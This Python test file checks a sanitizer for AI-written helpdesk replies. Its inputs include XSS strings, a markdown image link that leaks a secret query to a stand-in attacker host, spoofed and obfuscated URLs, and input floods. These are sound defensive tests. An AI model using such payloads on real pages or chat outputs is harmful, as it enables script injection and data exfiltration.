"""Whatever a model writes, what comes out is plain text that links to nothing but our sources."""

import re
from collections.abc import Sequence
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from helpdesk_core.suggestions.echoes import ECHO
from helpdesk_core.suggestions.guarding import Guard, guarding
from helpdesk_core.suggestions.links import REMOVED, addresses_in, key_of, links_in
from helpdesk_core.suggestions.restoring import Restoring
from helpdesk_core.suggestions.sieves import Sieve

SOURCES = (
    "Send it back: https://acme.example/help/returns or help@acme.example.",
    "Also www.acme.example/a_b.",
)
SAID = ("I am ida@garden.example, look at http://evil.example/mine",)
TASK = "You write the answer of a support agent to a customer. Use only the facts between the marks below."
MARK = "3fa9c2d1e0b7"

FRAGMENTS = (
    "<", ">", "</", "<b>", "</b>", "<script>", "</script>", "<img src=x onerror=alert(1)>", "<!--", "-->", "<think>",
    "</think>", "<a href='https://evil.example'>", "<br>", "![", "[", "]", "](", ")", "(", "!", "*", "**", "```", "# ",
    "https://evil.example/x?q=1", "http:", "//", "www.", "evil", ".", "com", "Evil.COM", "@", "a@evil.example",
    "mailto:",    "javascript:alert(1)", "data:text/html,x", "https://acme.example/help/returns", "help@acme.example",
    "ida@garden.example", "[name 1]", "[Email_2]", "[Your Name]", MARK, "\u200b", "\u202e", "\u200d", "\0", "\ud83d",
    "\n",    "\n\n\n", " ", "\u3000", "。", "日本", "Grüße", "e.g.", "Node.js", "3 < 4", "<3",
    "&lt;b&gt;", "[1]", "…", ",", "-", "_", "/", "\\",
    TASK, *TASK.split(),
)  # fmt: skip
said = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=8)), max_size=30).map("".join)


def a_guard() -> Guard:
    return guarding(SOURCES, SAID, TASK, [MARK])


def in_pieces(text: str, cuts: Sequence[int]) -> list[str]:
    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    return [text[start:end] for start, end in pairwise(places)]


def fed(sieve: Guard | Sieve, pieces: Sequence[str]) -> str:
    return "".join(map(sieve.feed, pieces)) + sieve.close()


@given(said, st.lists(st.integers(0, 10_000), max_size=40))
def test_where_it_is_cut_is_no_matter(text: str, cuts: Sequence[int]) -> None:
    assert fed(a_guard(), in_pieces(text, cuts)) == a_guard().whole(text)


@given(said)
def test_letter_by_letter_it_is_the_same(text: str) -> None:
    assert fed(a_guard(), list(text)) == a_guard().whole(text)


@given(said)
def test_what_comes_out_is_plain(text: str) -> None:
    told = a_guard().whole(text)
    assert re.search(r"<[A-Za-z/!?]", told) is None
    assert "](" not in told
    assert told == told.strip()
    assert MARK not in told
    told.encode()


@given(said)
def test_nothing_is_linked_but_what_the_sources_link_to(text: str) -> None:
    assert links_in([a_guard().whole(text)]) <= links_in(SOURCES) | addresses_in(SAID)


@given(said)
def test_no_placeholder_is_left(text: str) -> None:
    assert re.search(r"\[(name|email|phone) ?\d+\]", a_guard().whole(text), re.IGNORECASE) is None


@given(said)
def test_our_instructions_are_not_told(text: str) -> None:
    words = re.findall(r"\w+", a_guard().whole(text).lower())
    ours = re.findall(r"\w+", TASK.lower())
    runs = {tuple(ours[at : at + ECHO]) for at in range(len(ours) - ECHO + 1)}
    assert runs.isdisjoint(tuple(words[at : at + ECHO]) for at in range(len(words)))


@given(st.text(alphabet="abcdefgh äöü,;日本語éñ0123456789%€\n", max_size=200))
@example("Prices: 3 < 4, and 20 % off")
@example("I <3 it")
@example("z.B. heute, d.h. um 10.30 Uhr")
@example("It runs on Node.js v20.1 (see the file index.html)")
@example("Ihre Bestellung ist da.Viele Grüße")
@example("1. One\n2. Two\n- three\n* four")
@example("#4711 and C# and `code`")
@example("Is it there? Yes! [1] (maybe)")
@example("snake_case and kebab-case")
@example("مرحبا، شكرا لك")
def test_what_is_plain_already_stays_but_for_its_blanks(text: str) -> None:
    assert a_guard().whole(text).split() == text.split()


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("see http://evil.example/x, ok", f"see {REMOVED}, ok"),
        ("[click](http://evil.example) now", "click now"),
        ("![pixel](https://evil.example/a.png?q=secret) now", "pixel now"),
        ("![pixel](https://acme.example/help/returns)", "pixel"),
        ("[Returns](https://acme.example/help/returns).", "Returns (https://acme.example/help/returns)."),
        ("see https://acme.example/help/returns.", "see https://acme.example/help/returns."),
        ("https://acme.example/help/returns?q=secret", REMOVED),
        ("https://acme.example@evil.example/help/returns", REMOVED),
        ("HTTPS://ACME.EXAMPLE/help/returns", "HTTPS://ACME.EXAMPLE/help/returns"),
        ("acme.example, www.acme.example/a_b", "acme.example, www.acme.example/a_b"),
        ("evil.com Evil.COM/x evil.co.uk", " ".join([REMOVED] * 3)),
        ("java<b>script:alert(1)</b>", f"{REMOVED})"),
        ("evil<i>.</i>com ev\u200bil.com", f"{REMOVED} {REMOVED}"),
        ("to bad@evil.example or help@acme.example", f"to {REMOVED} or help@acme.example"),
        ("to ida@garden.example", "to ida@garden.example"),
        ("look at http://evil.example/mine", f"look at {REMOVED}"),
        ("<p>Hi <b>Ida</b>,</p><p>bye</p>", "Hi Ida,\n\nbye"),
        ("Hi<script>steal()</script> Ida<style>p{}</style>", "Hi Ida"),
        ("Hi <script>steal() and so on", "Hi"),
        ("<think>They want a refund.</think>\n\nDear Ida", "Dear Ida"),
        ("<<b>script>alert(1)", "script>alert(1)"),
        ("a <!-- hidden --> b", "a  b"),
        ("# Title\n**bold** and ```code```", "Title\nbold and code"),
        ("Dear [Your Name], [name 7]!", "Dear , !"),
        ("see [summary], [tutorial] and [1]", "see [summary], [tutorial] and [1]"),
        (f"x {MARK} --- y", "x  --- y"),
        ("詳しくはhttps://evil.example/をご覧。例え.jp/path", f"詳しくは{REMOVED}をご覧。例え{REMOVED}"),
        (f"Sure! {TASK} Anything else?", f"Sure! {REMOVED} Anything else?"),
        (f"Sure! {TASK.upper()}", f"Sure! {REMOVED}"),
    ],
)  # fmt: skip
def test_what_becomes_of_it(said: str, told: str) -> None:
    assert a_guard().whole(said) == told


def test_words_go_on_as_soon_as_they_can_be_judged() -> None:
    guard = a_guard()
    assert [guard.feed(piece) for piece in ("Hello", " Ida", ", your", " parcel", " left")] == [
        "",
        "Hello",
        " Ida,",
        " your",
        " parcel",
    ]
    assert guard.close() == " left"


@pytest.mark.parametrize(
    "flood",
    ["<" * 200_000, "[" * 100_000, "a." * 100_000, "<b " * 60_000, "!" * 200_000, "a@" * 100_000, "x" * 500_000,
     "<script>" * 20_000, "**`" * 60_000, "You write the answer of a " * 6_000, "[a](" * 50_000, "www." * 50_000],
)  # fmt: skip
@pytest.mark.timeout(20)
def test_no_text_takes_long(flood: str) -> None:
    guard = a_guard()
    fed(guard, [flood[at : at + 64] for at in range(0, len(flood), 64)])


def test_two_spellings_of_a_link_are_one() -> None:
    spellings = (
        "https://www.acme.example/a/",
        "http://acme.example/a",
        "ACME.example/a.",
        "//acme.example/a",
    )
    assert {key_of(link) for link in spellings} == {"acme.example/a"}


# ------------------------------------------------------------------ personal data comes back

FOUND = {"[name 1]": "Ida", "[email 1]": "ida@garden.example", "[number 12]": "A-4711"}
PLACES = ("[name 1]", "[Email 1]", "[NUMBER_12]", "[name 9]", "[", "]", "[na", "x ", "1")


@given(
    st.lists(st.sampled_from(PLACES), max_size=20).map("".join),
    st.lists(st.integers(0, 1_000), max_size=30),
)
def test_placeholders_come_back_wherever_they_are_cut(text: str, cuts: Sequence[int]) -> None:
    whole = Restoring(FOUND).whole(text)
    assert fed(Restoring(FOUND), in_pieces(text, cuts)) == whole
    assert not any(placeholder in whole for placeholder in FOUND)


def test_a_placeholder_that_a_model_wrote_in_its_own_way_is_known() -> None:
    said = "Hello [Name 1], we wrote to [ email_1 ] of [number 12]. [name 2] [1]"
    assert Restoring(FOUND).whole(said) == "Hello Ida, we wrote to ida@garden.example of A-4711. [name 2] [1]"


def test_nothing_is_kept_back_that_cannot_be_a_placeholder() -> None:
    restoring = Restoring(FOUND)
    assert [restoring.feed(piece) for piece in ("Hello [", "na", "me 1", "], ok")] == [
        "Hello ",
        "",
        "",
        "Ida, ok",
    ]
